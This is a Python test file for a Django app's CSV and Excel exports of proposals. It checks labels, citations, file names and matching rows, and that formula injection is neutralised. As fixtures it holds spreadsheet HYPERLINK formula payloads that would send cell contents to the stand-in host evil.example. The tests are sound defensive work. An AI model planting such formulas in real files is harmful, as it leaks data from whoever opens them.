"""Spreadsheet exports: labels a reader understands, the authors and the citation, a file named
after what it holds, the same rows as Excel, and no cell a spreadsheet would run."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st

from browse.exports import FORMULA_START, SPREADSHEET_COLUMNS, neutralised
from tests.factories import make_actor, make_proposal, make_source, make_theme

pytestmark = pytest.mark.django_db


def csv_rows(response) -> list[dict]:
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    return list(csv.DictReader(io.StringIO(text)))


def xlsx_rows(response) -> list[dict]:
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header, *rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(header, row, strict=True)) for row in rows]


def test_cells_hold_labels_authors_and_the_citation(client):
    source = make_source(title="A paper", publisher="Sample Press")
    make_proposal(
        source=source,
        title="Ask a question",
        kind="open_question",
        actors=[(make_actor(name="Japan"), "engaged")],
        themes=[make_theme(name="Trade")],
    )
    (row,) = csv_rows(client.get(reverse("proposals:export-csv")))
    assert list(row) == SPREADSHEET_COLUMNS
    assert row["Kind"] == "Open question"
    assert row["Status"] == "Published"
    assert row["Actors"] == "Japan (addressed or engaged)"
    assert row["Citation"].startswith("“A paper,” Sample Press, July 2015")
    assert row["Date"] == "July 2015"


def test_the_file_is_named_after_what_it_holds(client):
    theme = make_theme(slug="basing-okinawa")
    make_proposal(themes=[theme])
    response = client.get(reverse("proposals:export-csv"), {"theme": theme.slug, "q": "Okinawa"})
    disposition = response["Content-Disposition"]
    assert disposition == (
        'attachment; filename="alliance-kb-proposals-search-okinawa-theme-basing-okinawa.csv"'
    )
    plain = client.get(reverse("proposals:export-xlsx"))["Content-Disposition"]
    assert plain == 'attachment; filename="alliance-kb-proposals.xlsx"'


def test_excel_holds_the_same_rows_as_the_csv(client):
    theme = make_theme()
    for number in range(5):
        make_proposal(title=f'=HYPERLINK("http://evil.example/","{number}")', themes=[theme])
    csv_data = csv_rows(client.get(reverse("proposals:export-csv")))
    response = client.get(reverse("proposals:export-xlsx"))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = workbook.active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    excel = xlsx_rows(response)
    assert len(excel) == len(csv_data) == 5
    for from_excel, from_csv in zip(excel, csv_data, strict=True):
        assert {k: "" if v is None else str(v) for k, v in from_excel.items()} == from_csv


@pytest.mark.parametrize("start", FORMULA_START)
def test_a_title_a_spreadsheet_would_run_is_written_as_text(client, start):
    make_proposal(title=f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")')
    (row,) = csv_rows(client.get(reverse("proposals:export-csv")))
    assert row["Title"].startswith("'" + start)


@given(st.text())
@settings(max_examples=300)
def test_no_neutralised_text_starts_a_formula_and_none_is_changed_otherwise(text):
    cell = neutralised(text)
    assert not cell.startswith(FORMULA_START)
    if text.startswith(FORMULA_START):
        assert cell == "'" + text
    else:
        assert cell == text
